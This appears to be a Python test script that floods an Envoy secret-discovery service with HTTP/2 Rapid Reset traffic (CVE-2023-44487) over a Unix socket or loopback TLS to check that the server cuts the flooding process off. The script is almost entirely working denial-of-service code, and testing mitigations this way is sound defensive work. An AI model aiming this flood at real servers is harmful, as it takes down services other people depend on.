"""python flood.py SOCKET: open streams and reset them, as fast as the server takes it (CVE-2023-44487), until it hangs up
and keeps us out. A program of its own: the server hangs up on the whole process that does so.
python flood.py PORT FOLDER: the same with TLS on loopback, until it has hung up twice; FOLDER holds node.cert.pem,
node.key.pem, mesh-roots.bundle.pem."""
import pathlib
import socket
import ssl
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
AT_A_TIME = 64


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def connect(where, folder=None):
    if folder is None:
        server = socket.socket(socket.AF_UNIX)
        server.connect(where)
        return server
    folder = pathlib.Path(folder)
    context = ssl.create_default_context(cafile=folder / "mesh-roots.bundle.pem")
    context.load_cert_chain(folder / "node.cert.pem", folder / "node.key.pem")
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(socket.create_connection(("127.0.0.1", int(where))), server_hostname="sds.example")


def flood(server):
    """Until the server ends the connection."""
    block = b"\x83\x86" + literal(b":path", PATH) + literal(b":authority", b"x") + literal(b"te", b"trailers") + literal(
        b"content-type", b"application/grpc")
    try:
        server.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        for first in range(1, 1 << 30, 2 * AT_A_TIME):
            server.sendall(b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                for stream in range(first, first + 2 * AT_A_TIME, 2)))
    except (ConnectionError, ssl.SSLEOFError):
        pass


def is_kept_out(server):
    """It hangs up without a word."""
    try:
        return not server.recv(1, socket.MSG_PEEK)
    except ConnectionError:
        return False


if len(sys.argv) > 2:
    for _ in range(2):
        with connect(*sys.argv[1:]) as server:
            flood(server)
else:
    while True:
        with connect(*sys.argv[1:]) as server:
            if is_kept_out(server):
                break
            flood(server)
